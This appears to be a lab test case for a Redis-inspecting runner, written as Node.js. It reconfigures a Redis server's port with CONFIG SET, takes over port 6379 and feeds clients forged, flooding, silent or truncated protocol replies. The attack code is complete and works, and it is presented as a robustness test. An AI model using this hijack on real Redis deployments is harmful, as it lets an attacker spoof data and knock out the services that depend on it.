// exploit: sends its Redis to another port, takes its place and answers the runner's questions: with forged keys, floods, silence, half an answer
// kind: lab
// steps: GET / | GET /flood | GET /silence | GET /half | wait 60 | GET /
// outcome: finished
// sees: "status":200
// job: {"services":["redis"],"listsKeys":true}
const http = require('node:http')
const net = require('node:net')
const { createClient } = require('redis')

let mood = '/'
const forged = '*2\r\n:1\r\n*1\r\n*5\r\n:0\r\n$4\r\nfake\r\n$6\r\nstring\r\n:-1\r\n$1\r\nx\r\n'
const answer = {
  '/': (socket) => socket.end(forged),
  '/flood': (socket) => {
    const more = () => socket.writable && socket.write('*9999999\r\n'.repeat(5000), more)
    more()
  },
  '/silence': () => {},
  '/half': (socket) => socket.end('*2\r\n:1\r\n*100\r\n'),
}
const takeOver = () => {
  const server = net.createServer((socket) => answer[mood](socket.on('error', () => {})))
  server.on('error', () => setTimeout(takeOver, 20)).listen(6379, '127.0.0.1')
}

http.createServer(async (req, res) => {
  if (mood === '/' && req.url === '/') {
    const client = await createClient({ url: process.env.REDIS_URL, socket: { reconnectStrategy: false } }).on('error', () => {}).connect()
    await client.sendCommand(['CONFIG', 'SET', 'port', '6400'])
    takeOver()
  }
  mood = req.url
  res.end('ok')
}).listen(process.env.PORT)
